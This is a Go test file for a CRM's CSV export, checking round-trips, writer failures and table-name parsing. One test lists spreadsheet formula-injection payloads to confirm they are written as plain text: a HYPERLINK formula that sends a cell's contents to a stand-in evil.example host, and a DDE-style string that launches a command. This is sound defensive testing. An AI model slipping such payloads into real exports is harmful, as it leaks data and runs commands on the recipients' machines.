package csvexport

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"

	"github.com/kithcrm/kith/crm"
	"github.com/kithcrm/kith/crm/crmtest"
)

// book is a Source over fixed rows.
type book struct {
	people       []Person
	interactions []Interaction
}

func (b book) ExportPeople(fn func(Person) error) error {
	for _, p := range b.people {
		if err := fn(p); err != nil {
			return err
		}
	}
	return nil
}

func (b book) ExportInteractions(fn func(Interaction) error) error {
	for _, in := range b.interactions {
		if err := fn(in); err != nil {
			return err
		}
	}
	return nil
}

// readBack writes table and reads it back with encoding/csv.
func readBack(t *testing.T, src Source, table Table) [][]string {
	t.Helper()
	var buf bytes.Buffer
	n, err := Write(&buf, src, table)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("the export does not read back as CSV: %v\n%s", err, buf.String())
	}
	if n != len(recs)-1 {
		t.Errorf("Write counted %d records, the file holds %d", n, len(recs)-1)
	}
	return recs
}

func TestPeopleReadBack(t *testing.T) {
	b := book{people: []Person{{
		Name: `Ana "Ani" López, PhD`, Roles: []crm.RoleKind{crm.RoleCoach, crm.RoleMentor},
		Emails: []string{"ana@work.example", "ana@home.example"}, Phones: []string{"+44 20 7946 0000"},
		URLs: []string{"https://www.linkedin.com/in/ana"}, Company: "Fabrikam", Title: "VP\nProduct",
		Location: "London", Birthday: crmtest.Date("1980-02-29"), Source: crm.SourceEvent,
		SourceDetail: "ProductCon", MetOn: crmtest.Date("2025-03-10"), AddedOn: crmtest.Date("2025-03-11"),
		NextCheckIn: crmtest.Date("2026-12-01"),
	}, {Name: "Ben", Archived: true}}}
	recs := readBack(t, b, People)
	if strings.Join(recs[0], ",") != strings.Join(PeopleHeader, ",") {
		t.Errorf("header %v", recs[0])
	}
	want := []string{`Ana "Ani" López, PhD`, "coach; mentor", "ana@work.example; ana@home.example", "'+44 20 7946 0000",
		"https://www.linkedin.com/in/ana", "Fabrikam", "VP\nProduct", "London", "1980-02-29", "event", "ProductCon",
		"2025-03-10", "2025-03-11", "2026-12-01", "no"}
	if strings.Join(recs[1], "|") != strings.Join(want, "|") {
		t.Errorf("row\n got %q\nwant %q", recs[1], want)
	}
	if got := recs[2]; got[0] != "Ben" || got[8] != "" || got[13] != "" || got[14] != "yes" {
		t.Errorf("a sparse row: %q", got)
	}
}

func TestInteractionsReadBack(t *testing.T) {
	b := book{interactions: []Interaction{{Date: crmtest.Date("2026-11-20"), Kind: crm.KindVideo, Minutes: 45,
		Summary: "promotion case", Participants: []string{"Ana López", "Ben"}, Circle: "Aspiring PMs", Goal: "Staff PM"}}}
	recs := readBack(t, b, Interactions)
	want := "2026-11-20|video|45|promotion case|Ana López; Ben|Aspiring PMs|Staff PM"
	if len(recs) != 2 || strings.Join(recs[1], "|") != want {
		t.Errorf("got %q, want %s", recs, want)
	}
}

// A cell a spreadsheet would run as a formula is written as text, whatever
// field it comes from.
func TestFormulaInjectionIsNeutralised(t *testing.T) {
	evil := []string{`=HYPERLINK("https://evil.example?x="&A1,"click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"}
	var b book
	for _, e := range evil {
		b.people = append(b.people, Person{Name: e, Company: e, Emails: []string{e}})
		b.interactions = append(b.interactions, Interaction{Summary: e, Participants: []string{e}, Goal: e})
	}
	for _, table := range Tables {
		quoted := 0
		for i, rec := range readBack(t, b, table)[1:] {
			for j, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s row %d column %d starts a formula: %q", table, i+1, j, cell)
				}
				if strings.HasPrefix(cell, "'") {
					quoted++
					if cell[1:] != evil[i] {
						t.Errorf("%s row %d column %d: %q, want ' and the text as it was", table, i+1, j, cell)
					}
				}
			}
		}
		if want := 3 * len(evil); quoted != want {
			t.Errorf("%s: %d cells neutralised, want %d", table, quoted, want)
		}
	}
	for in, want := range map[string]string{"=1": "'=1", "a=1": "a=1", "": "", "'=1": "'=1", "Ana": "Ana", "-": "'-"} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriteStopsAtTheFirstError(t *testing.T) {
	b := book{people: make([]Person, 10000)}
	w := &failAfter{n: 4096}
	n, err := Write(w, b, People)
	if err == nil || !errors.Is(err, errFull) {
		t.Fatalf("a failing writer: %v", err)
	}
	if n >= len(b.people) {
		t.Errorf("kept reading after the writer failed: %d rows", n)
	}
}

var errFull = errors.New("disk full")

// failAfter accepts n bytes, then fails.
type failAfter struct{ n int }

func (f *failAfter) Write(p []byte) (int, error) {
	if len(p) > f.n {
		return 0, errFull
	}
	f.n -= len(p)
	return len(p), nil
}

func TestParseTable(t *testing.T) {
	if tb, err := ParseTable(" People "); err != nil || tb != People {
		t.Errorf("ParseTable(People) = %q, %v", tb, err)
	}
	if _, err := ParseTable("contacts"); err == nil || !strings.Contains(err.Error(), "people or interactions") {
		t.Errorf("ParseTable(contacts): %v", err)
	}
}
